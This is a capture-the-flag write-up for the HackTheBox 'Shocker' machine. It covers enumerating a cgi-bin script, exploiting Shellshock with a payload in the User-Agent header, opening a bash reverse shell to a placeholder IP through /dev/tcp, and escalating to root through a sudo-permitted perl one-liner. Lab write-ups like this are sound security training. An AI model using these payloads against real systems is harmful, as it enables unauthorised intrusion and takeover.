Shocker Writeup

Sep 13, 2018 • ctf,boot2root,hackthebox

Shocker Writeup | HackTheBox


i. Port Scan


ii. Enumeration / Low Priv Shell

Starting off with http, browsing to host:Nothing interesting, let’s see if we can find any hidden directories using gobuster


Wait… nothing found? That’s because of two reasons:

  • gobuster by default does not show pages with 403 Status Codes (Forbidden).
  • the way that this apache is setup is that it’ll report directories that do not have a / appended as 404.

Luckily for us, gobuster has thoseswitches built-in. -f to append directory flashes, and -s <status> for custom status codes

Running gobuster with those two options:


$ gobuster -u -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -t 25 -f -s 403

Seems like we found a new directory, cgi-bin, navigating to it we get the 403 mentioned before.

Let’s see if we can use gobuster to find any files in the directory. Typically there are .sh files in /cgi-bin/, so we can use -x in gobuster for custom extensions.


Navigating to


Downloading the file, and looking at the contents, we can see that the script is executing uptime when being called:


Let’s try testing if the page is vulnerable to Shellshock since bash is involved.

Two great reads on how Shellshock works & how it's exploited:

Using Burp’s repeater would make this easier, as we do not have to download the file every time to see the output:


The payload that I’m going to be using:

() { :; }; echo; /bin/ls

If you want to execute another command, make sure you include the full path. ($ which command)

This will list the contents in the directory.I’m going to insert the payload into User-Agents. (You can use several HTTP-Headers such as User-Agent, Cookie, Accept, etc.)



Looking at the response, we see that it prints out the directorycontents, which means we have command execution

In order to get a low-privilege shell, I am going to use the bash reverse shell one-liner.

$ bash -i >& /dev/tcp/YOURIP/PORT 0>&1


Looking at our listener:


iii. Privilege Escalation

While enumerating the system, I checked sudo -l to see what commands can be ran as root:


We can run perl as root without a password.

Using a perl one-liner to spawn a shell with root privileges.perl —e 'exec "/bin/sh";'

You won’t see any output at first, but try executing a command.


##. iv. Conclusion

This boxis great practice for Shellshock. Though, it’s hard to find it in the wild nowadays, it’sstill a good idea to addit to your foundation.

Sources / Links: